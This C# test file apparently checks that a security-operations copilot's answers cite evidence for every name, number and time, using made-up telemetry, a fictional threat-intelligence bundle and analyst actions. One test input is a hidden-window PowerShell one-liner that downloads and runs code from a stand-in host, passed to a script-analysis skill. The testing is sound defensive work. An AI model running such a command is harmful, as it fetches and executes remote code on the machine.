using System.Globalization;
using System.Text;
using System.Text.Json;
using Redoubt.Copilot.Claims;
using Redoubt.Copilot.Questions;
using Redoubt.Evidence.Reading;
using Redoubt.Incidents.Detection;
using Redoubt.Server.Tests.Access;
using Redoubt.Server.Tests.Scenarios;

namespace Redoubt.Server.Tests.Faithfulness;

/// <summary>
/// Everything that the copilot says of the demonstration and the scenarios, over HTTP: each name, number, time, hash, address, id and quotation
/// of each sentence and row is looked up in the evidence that it cites, which is fetched by its id. Nothing of the copilot's own checks is used.
/// </summary>
public sealed class EveryAnswerTests(ITestOutputHelper output)
{
    private const int MostIncidents = 12;
    private const int BriefDays = 90;

    private static readonly string[] Questions =
    [
        "Which users are involved?", "Which devices are involved?", "Which addresses are involved?", "How many alerts are there?", "When did it start?", "When did it end?", "Who owns it?", "What was done about it?",
        "Was anything blocked?", "Which techniques were used?", "What is the severity and why?", "What was the first alert?", "Which files are named?", "List all command lines", "What are the indicators?", "How long did it take?",
    ];

    private readonly List<string> _wrong = [];
    private int _sentences;
    private int _cells;

    [Fact]
    public async Task Each_name_number_time_hash_and_id_stands_in_the_evidence_cited()
    {
        await using var server = await TestServer.StartAsync(time: new TestClock());
        await FillAsync(server);
        var evidence = new ApiEvidence(server);
        var tokens = new SpokenTokens(Vocabulary());
        var incidents = (await server.GetAsync("/api/incidents?take=200")).GetProperty("items").EnumerateArray().Select(item => item.GetProperty("id").GetInt64()).Take(MostIncidents).ToList();
        foreach (var id in incidents)
        {
            await CheckAsync($"summary {id}", await server.GetAsync($"/api/incidents/{id}/summary"));
            await CheckAsync($"guidance {id}", await server.GetAsync($"/api/incidents/{id}/guidance"));
            foreach (var skill in new[] { "summarize-incident", "guide-response", "write-report", "find-similar-incidents", "list-alerts", "analyze-script" })
                await AskAsync(skill, ("incident", $"{id}"));
            foreach (var question in Questions.Where((_, place) => id == incidents[0] || (place + id) % 4 == 0))
                await AskAsync("answer-question", ("incident", $"{id}"), ("question", question));
        }

        await AskAsync("list-incidents", ("top", "10"));
        foreach (var device in new[] { "FIN-WS-07", "FS02", "hr-07" })
            await AskAsync("summarize-device", ("device", device));
        foreach (var user in new[] { "p.nair", "adm-kowalski", "r.mbeki", "dora", "m.lopez" })
            await AskAsync("summarize-user", ("user", user));
        foreach (var file in new[] { "powershell.exe", "tool.exe", "synchost.exe", "mshta.exe" })
            await AskAsync("summarize-file", ("file", file));
        foreach (var subject in new[] { "203.0.113.9", "Softpaw", "Mild Otter", "198.51.100.7", "T1059.001", "otter.example", "Brackish Heron", "Harbourload", "203.0.113.45", "CVE-2026-90017" })
            await AskAsync("threat-intelligence", ("subject", subject));
        foreach (var industry in new[] { "Healthcare", "Financial services" })
            await AskAsync("brief-threats", ("days", $"{BriefDays}"), ("industry", industry));
        foreach (var question in new[] { "failed sign-ins on FIN-WS-07 in the last week", "count of processes by device in the past 7 days", "network connections to 203.0.113.9" })
            await AskAsync("hunt", ("question", question));
        await AskAsync("analyze-script", ("text", "powershell -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\""));
        foreach (var period in new[] { "day", "month", "quarter" })
            await CheckAsync($"rhythm {period}", await server.GetAsync($"/api/reports/rhythm?period={period}"));

        output.WriteLine($"{_sentences} sentences, {_cells} cells, {evidence.Fetched} pieces of evidence; {string.Join(", ", tokens.Looked.OrderBy(kind => kind.Key).Select(kind => $"{kind.Value} of {kind.Key}"))}");
        if (Environment.GetEnvironmentVariable("REDOUBT_WRONG") is { } list)
            await File.WriteAllLinesAsync(list, _wrong, TestContext.Current.CancellationToken);
        if (_wrong.Count > 0)
            Assert.Fail($"{_wrong.Count} wrong:\n{string.Join('\n', _wrong.GroupBy(each => each.Split(" | ")[1]).SelectMany(group => group.Take(3)))}");
        _sentences.ShouldBeGreaterThan(1000);

        async Task AskAsync(string skill, params (string Name, string Value)[] inputs)
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, $"/api/copilot/skills/{skill}") { Content = new StringContent(JsonSerializer.Serialize(new { inputs = inputs.ToDictionary(input => input.Name, input => input.Value) }), Encoding.UTF8, "application/json") };
            using var answer = await server.Http.SendAsync(request, TestContext.Current.CancellationToken);
            var text = await answer.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
            if ((int)answer.StatusCode == 400 && skill is "threat-intelligence")
                return;
            answer.IsSuccessStatusCode.ShouldBeTrue($"{skill} {string.Join(' ', inputs)}: {(int)answer.StatusCode} {text}");
            await CheckAsync($"{skill} {string.Join(' ', inputs.Select(input => input.Value))}", JsonSerializer.Deserialize<JsonElement>(text), inputs[^1].Value);
        }

        async Task CheckAsync(string what, JsonElement said, string asked = "")
        {
            var reckoned = await ReckonedAsync(server, evidence, what, asked);
            var queries = new List<JsonElement>();
            foreach (var part in Parts(said))
            {
                var citations = part.GetProperty("citations").EnumerateArray().ToList();
                var shown = new List<Shown>();
                foreach (var citation in citations)
                {
                    shown.Add(await evidence.OfAsync(citation, asked));
                    if (!shown[^1].IsThere)
                        _wrong.Add($"{what} | no such evidence | {citation.GetProperty("evidenceId").GetString()}");
                }

                if (part.TryGetProperty("runs", out _))
                {
                    _sentences++;
                    queries.AddRange(citations);
                    if (citations.Count == 0)
                        _wrong.Add($"{what} | cites nothing | {part.GetProperty("plain").GetString()}");
                    var own = new Shown();
                    own.Text(asked);
                    own.Add(reckoned);
                    foreach (var missing in tokens.Missing(part, [.. shown, own]))
                        _wrong.Add($"{what} | {part.GetProperty("id").GetString()} {missing.Split(' ')[0]} | {missing} | {part.GetProperty("plain").GetString()} [{string.Join(' ', citations.Select(citation => citation.GetProperty("evidenceId").GetString()))}]");
                    continue;
                }

                // The rows of a hunt are those of the query that its sentence cites.
                foreach (var citation in citations.Count == 0 ? queries : [])
                    shown.Add(await evidence.OfAsync(citation, asked));
                foreach (var cell in part.GetProperty("cells").EnumerateArray().Select(cell => cell.GetProperty("text").GetString()!))
                {
                    _cells++;
                    foreach (var missing in tokens.MissingWords(cell, [.. shown, reckoned]))
                        _wrong.Add($"{what} | cell {missing.Split(' ')[0]} | {missing} | {cell} [{string.Join(' ', citations.Select(citation => citation.GetProperty("evidenceId").GetString()))}]");
                }
            }
        }
    }

    /// <summary>
    /// What is counted or reckoned over more than a sentence cites, counted and asked for again: over all alerts of the incident; the chances of
    /// the triage; the points of a reputation; the days that a profile is of; related alerts, and the first day, of a brief. Numbers only: names and times are looked up in what is cited.
    /// </summary>
    private static async Task<Shown> ReckonedAsync(TestServer server, ApiEvidence evidence, string what, string asked)
    {
        var reckoned = new Shown();
        var words = what.Split(' ');
        if (words[0] is "summary" or "guidance" or "summarize-incident" or "guide-response" or "write-report" or "find-similar-incidents" or "list-alerts" or "answer-question" || (words[0] == "analyze-script" && long.TryParse(asked, out _)))
            reckoned.Counts.UnionWith((await evidence.OfIncidentAsync(words[1])).Counts);
        if (words[0] is "guidance" or "guide-response")
        {
            var triage = (await server.GetAsync($"/api/incidents/{words[1]}/guidance")).GetProperty("triage");
            foreach (var chance in new[] { "truePositive", "expected", "falsePositive" })
                reckoned.Counts.Add(Math.Clamp((long)Math.Round(100 * triage.GetProperty(chance).GetDouble()), 1, 99));
        }

        if (words[0] == "threat-intelligence")
        {
            using var answer = await server.Http.GetAsync($"/api/intelligence/reputation?subject={Uri.EscapeDataString(asked)}");
            if (answer.IsSuccessStatusCode)
            {
                foreach (var number in Numbers(JsonSerializer.Deserialize<JsonElement>(await answer.Content.ReadAsStringAsync())))
                    reckoned.Counts.Add(Math.Abs(number));
            }
        }

        if (words[0] is "summarize-device" or "summarize-user" or "summarize-file")
            reckoned.Counts.Add(30);
        if (words[0] == "brief-threats")
        {
            reckoned.Counts.UnionWith((await evidence.OfThreatsAsync()).Counts);
            reckoned.Instants.Add(server.Workplace.Time.GetUtcNow().AddDays(-BriefDays));
        }

        if (words[0] == "rhythm")
            reckoned.Counts.UnionWith((await evidence.OfPeriodAsync()).Counts);
        return reckoned;
    }

    private static IEnumerable<long> Numbers(JsonElement value) => value.ValueKind switch
    {
        JsonValueKind.Number => value.TryGetInt64(out var number) ? [number] : [],
        JsonValueKind.Object => value.EnumerateObject().SelectMany(property => Numbers(property.Value)),
        JsonValueKind.Array => value.EnumerateArray().SelectMany(Numbers),
        _ => [],
    };

    /// <summary>Every sentence and row, wherever it stands.</summary>
    private static IEnumerable<JsonElement> Parts(JsonElement value) => value.ValueKind switch
    {
        JsonValueKind.Object when value.TryGetProperty("citations", out _) && (value.TryGetProperty("runs", out _) || value.TryGetProperty("cells", out _)) => [value],
        JsonValueKind.Object => value.EnumerateObject().SelectMany(property => Parts(property.Value)),
        JsonValueKind.Array => value.EnumerateArray().SelectMany(Parts),
        _ => [],
    };

    /// <summary>Fixed words of templates, which name nothing.</summary>
    private static IEnumerable<string> Vocabulary() =>
        new[] { "summarize-incident", "guide-response", "write-report", "answer-question", "find-similar-incidents", "analyze-script", "hunt", "list-incidents", "list-alerts", "threat-intelligence", "brief-threats", "summarize-device", "summarize-user", "summarize-file" }
            .SelectMany(skill => SkillContent.Of(skill).Vocabulary).Concat(SkillContent.Of("rhythm-report").Vocabulary).Concat(QuestionWords.Known.Kinds.SelectMany(kind => kind.Noun).SelectMany(noun => noun.Split(' ')));

    /// <summary>The demonstration, the scenario of raw events, rows of telemetry, threat intelligence, and what people did.</summary>
    private static async Task FillAsync(TestServer server)
    {
        foreach (var (format, records) in DemoRecords.Files(new TestClock()))
            await server.IngestAsync(records, format);
        await server.Workplace.RuleBook.BringAsync(StarterRules.All, RuleBook.Redoubt, TestContext.Current.CancellationToken);
        await server.IngestAsync(DetectionTests.Events, "sysmon-json");
        await server.IngestAsync(string.Join('\n', Telemetry()), "defender-hunting");
        await server.Workplace.Detections.RunDueAsync(TestContext.Current.CancellationToken);
        await server.IngestAsync(
            """
            {"alertId":"a-1","title":"Beacon","detector":"Guard","severity":"high","firstActivity":"2026-03-11T09:00:00Z","entities":[{"type":"device","hostName":"FIN-WS-07"},{"type":"user","accountName":"m.lopez"},{"type":"ip","address":"203.0.113.9"},{"type":"domain","name":"otter.example"}]}
            """);
        foreach (var (source, feed) in new[] { ("Feed%20A", Intelligence), ("Demonstration%20feed", DemoRecords.Intelligence(new TestClock())) })
        {
            using var answer = await server.Http.PostAsync($"/api/intelligence/import?source={source}", new StringContent(feed, Encoding.UTF8), TestContext.Current.CancellationToken);
            answer.EnsureSuccessStatusCode();
        }

        await server.Workplace.Intelligence.RunAsync(TestContext.Current.CancellationToken);
        await server.Workplace.Engine.FlushAsync(TestContext.Current.CancellationToken);
        var ids = (await server.GetAsync("/api/incidents?take=6")).GetProperty("items").EnumerateArray().Select(item => item.GetProperty("id").GetInt64()).ToList();
        await server.SendAsync(HttpMethod.Post, $"/api/incidents/{ids[0]}/comments", new { text = "Called the user at 14:20; who else opened the mail?" });
        await server.SendAsync(HttpMethod.Patch, $"/api/incidents/{ids[0]}", new { assignedTo = "Ada Berg", status = "inProgress" });
        var ordered = await server.SendAsync(HttpMethod.Post, "/api/actions", new { kind = "blockIndicator", target = new { kind = "ip", key = "ip:203.0.113.9", name = "203.0.113.9" }, incidentId = ids[0], reason = "Beacon of the attack" });
        // Carried out before answers tell of it: they and their evidence are asked for one after the other.
        await Api.ActionTests.UntilAsync(server, ordered.GetProperty("id").GetInt64(), "done");
        await server.SendAsync(HttpMethod.Post, "/api/actions", new { kind = "blockIndicator", target = new { kind = "ip", key = "ip:198.51.100.7", name = "198.51.100.7" }, incidentId = ids[0], reason = "Second stage", propose = true });
        foreach (var id in ids.Skip(4))
            await server.SendAsync(HttpMethod.Post, $"/api/incidents/{id}/classify", new { classification = "falsePositive", determination = "notMalicious", resolve = true, comment = "Our own scanner 10.0.0.250." });
    }

    private static IEnumerable<string> Telemetry()
    {
        for (var hour = 1; hour < 200; hour += 3)
        {
            var time = new TestClock().GetUtcNow().AddHours(-hour).ToString("yyyy-MM-ddTHH:mm:ss.fffffffZ", CultureInfo.InvariantCulture);
            yield return Row("DeviceLogonEvents", new { Timestamp = time, ReportId = $"l{hour}", DeviceName = "fin-ws-07.contoso.example", ActionType = hour % 5 == 0 ? "LogonFailed" : "LogonSuccess", AccountName = hour < 20 ? "svc-backup" : "m.lopez", LogonType = "Network", RemoteIP = $"10.0.4.{hour % 7}" });
            yield return Row("DeviceProcessEvents", new { Timestamp = time, ReportId = $"p{hour}", DeviceName = "fin-ws-07.contoso.example", ActionType = "ProcessCreated", FileName = hour < 12 ? "tool.exe" : "powershell.exe", FolderPath = @"C:\Users\Public\tool.exe", SHA256 = new string('b', 64), AccountName = "m.lopez", ProcessCommandLine = $"tool.exe /x {hour}" });
            if (hour < 6)
                yield return Row("DeviceTvmSoftwareVulnerabilities", new { Timestamp = time, DeviceId = $"d{hour}", DeviceName = $"fin-ws-0{hour}.contoso.example", SoftwareVendor = "acme", SoftwareName = "mailer", SoftwareVersion = "1.0", CveId = "CVE-2026-11111", VulnerabilitySeverityLevel = "High" });
            yield return Row("DeviceNetworkEvents", new { Timestamp = time, ReportId = $"n{hour}", DeviceName = "fin-ws-07.contoso.example", ActionType = "ConnectionSuccess", RemoteIP = hour % 4 == 0 ? "203.0.113.9" : "198.51.100.44", RemotePort = 443, RemoteUrl = "otter.example" });
        }

        static string Row(string table, object row) => JsonSerializer.Serialize(new { time = JsonSerializer.SerializeToElement(row).GetProperty("Timestamp").GetString(), category = "AdvancedHunting-" + table, properties = row });
    }

    private const string Intelligence =
        """
        {"type":"bundle","id":"bundle--1","objects":[
         {"type":"malware","id":"malware--a0000000-0000-4000-8000-000000000001","name":"Softpaw","description":"A loader of 2025.","modified":"2026-02-01T00:00:00Z"},
         {"type":"intrusion-set","id":"intrusion-set--a0000000-0000-4000-8000-000000000002","name":"Mild Otter","aliases":["OTTER-7","Brown Otter"],"description":"A made-up group.","modified":"2026-02-01T00:00:00Z"},
         {"type":"attack-pattern","id":"attack-pattern--a0000000-0000-4000-8000-000000000003","name":"PowerShell","external_references":[{"source_name":"mitre-attack","external_id":"T1059.001"}],"modified":"2026-02-01T00:00:00Z"},
         {"type":"report","id":"report--a0000000-0000-4000-8000-000000000009","name":"Otters phish hospitals","description":"A made-up group sends invoices to clinics.","published":"2026-03-10T00:00:00Z","modified":"2026-03-10T00:00:00Z","object_refs":["intrusion-set--a0000000-0000-4000-8000-000000000002","vulnerability--a0000000-0000-4000-8000-000000000010","indicator--a0000000-0000-4000-8000-000000000005"]},
         {"type":"vulnerability","id":"vulnerability--a0000000-0000-4000-8000-000000000010","name":"CVE-2026-11111","modified":"2026-03-10T00:00:00Z"},
         {"type":"relationship","id":"relationship--a0000000-0000-4000-8000-000000000011","relationship_type":"exploits","source_ref":"malware--a0000000-0000-4000-8000-000000000001","target_ref":"vulnerability--a0000000-0000-4000-8000-000000000010"},
         {"type":"course-of-action","id":"course-of-action--a0000000-0000-4000-8000-000000000012","name":"Sign scripts","modified":"2026-02-01T00:00:00Z"},
         {"type":"relationship","id":"relationship--a0000000-0000-4000-8000-000000000013","relationship_type":"mitigates","source_ref":"course-of-action--a0000000-0000-4000-8000-000000000012","target_ref":"attack-pattern--a0000000-0000-4000-8000-000000000003"},
         {"type":"indicator","id":"indicator--a0000000-0000-4000-8000-000000000005","name":"Otter's server","pattern":"[ipv4-addr:value = '203.0.113.9']","pattern_type":"stix","valid_from":"2026-03-03T00:00:00Z","confidence":90,"created":"2026-03-03T00:00:00Z","modified":"2026-03-03T00:00:00Z"},
         {"type":"indicator","id":"indicator--a0000000-0000-4000-8000-000000000006","name":"Otter's domain","pattern":"[domain-name:value = 'otter.example']","pattern_type":"stix","valid_from":"2026-03-04T00:00:00Z","created":"2026-03-03T00:00:00Z","modified":"2026-03-03T00:00:00Z"},
         {"type":"relationship","id":"relationship--a0000000-0000-4000-8000-000000000006","relationship_type":"indicates","source_ref":"indicator--a0000000-0000-4000-8000-000000000005","target_ref":"malware--a0000000-0000-4000-8000-000000000001"},
         {"type":"relationship","id":"relationship--a0000000-0000-4000-8000-000000000007","relationship_type":"uses","source_ref":"intrusion-set--a0000000-0000-4000-8000-000000000002","target_ref":"malware--a0000000-0000-4000-8000-000000000001"},
         {"type":"relationship","id":"relationship--a0000000-0000-4000-8000-000000000008","relationship_type":"uses","source_ref":"intrusion-set--a0000000-0000-4000-8000-000000000002","target_ref":"attack-pattern--a0000000-0000-4000-8000-000000000003"}
        ]}
        """;
}
